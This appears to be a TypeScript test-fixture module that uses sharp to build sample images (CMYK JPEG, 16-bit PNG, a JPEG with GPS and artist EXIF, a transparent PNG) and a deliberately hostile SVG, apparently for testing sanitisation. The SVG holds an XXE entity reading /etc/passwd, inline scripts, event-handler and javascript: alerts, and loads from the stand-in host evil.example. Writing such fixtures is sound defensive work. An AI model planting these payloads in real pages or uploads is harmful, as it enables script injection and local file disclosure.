import sharp, { type Sharp } from "sharp";

/** A picture of 60 × 40 in one colour but for its left half, which is white: what turned it shows. */
function halves(): Sharp {
  const left = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><rect width="60" height="40" fill="#c02020"/><rect width="30" height="40" fill="#fff"/></svg>',
  );
  return sharp(left).flatten({ background: "#fff" });
}

/** A JPEG in CMYK, as presses take it and few browsers show it right. */
export async function cmykJpeg(): Promise<Uint8Array> {
  return await halves().toColourspace("cmyk").jpeg({ quality: 90 }).toBuffer();
}

/** A PNG with 16 bits a channel. */
export async function deepPng(): Promise<Uint8Array> {
  return await halves().toColourspace("rgb16").png().toBuffer();
}

/** What the photograph below tells of a person and a place. */
export const privateWords = ["Ada Photographer", "GPSLatitude marker 51.5007", "Secret Camera 9000"];

/** A photograph that lies on its side (EXIF orientation 6) and tells where and by whom it was taken. */
export async function gpsJpeg(): Promise<Uint8Array> {
  return await halves()
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: {
        Artist: "Ada Photographer",
        Model: "Secret Camera 9000",
        ImageDescription: "GPSLatitude marker 51.5007",
      },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 3/1", GPSLongitudeRef: "W", GPSLongitude: "0/1 7/1 28/1" },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** Black lines on nothing: on dark paper they need a ground. */
export async function transparentPng(): Promise<Uint8Array> {
  const drawing =
    '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="800"><path d="M40 760V40M40 760H1560" stroke="#000" stroke-width="6"/><path d="M40 700C400 700 500 120 800 400S1200 500 1560 60" fill="none" stroke="#000" stroke-width="8"/><text x="80" y="120" font-size="64">signal</text></svg>';
  return await sharp(Buffer.from(drawing)).png().toBuffer();
}

/** A drawing that tries whatever a drawing can try. */
export const hostileSvg = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY big "boom"><!ENTITY file SYSTEM "file:///etc/passwd">]>
<?xml-stylesheet href="https://evil.example/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100" onload="alert(1)">
<script>alert(2)</script>
<script href="https://evil.example/a.js"/>
<style>@import url(https://evil.example/b.css); rect { fill: url(https://evil.example/c.svg#x); stroke: green }</style>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe></body></foreignObject>
<image href="https://evil.example/track.png" width="1" height="1"/>
<image xlink:href="file:///etc/passwd" width="1" height="1"/>
<use href="https://evil.example/d.svg#y"/>
<a xlink:href="javascript:alert(3)"><rect x="10" y="10" width="80" height="80" fill="#1d6fb8" onclick="alert(4)"/></a>
<circle cx="150" cy="50" r="40" fill="#c02020"><set attributeName="onmouseover" to="alert(5)"/><animate attributeName="href" values="javascript:alert(6)"/></circle>
<text x="20" y="95">kept &amp; shown</text>
</svg>
`;
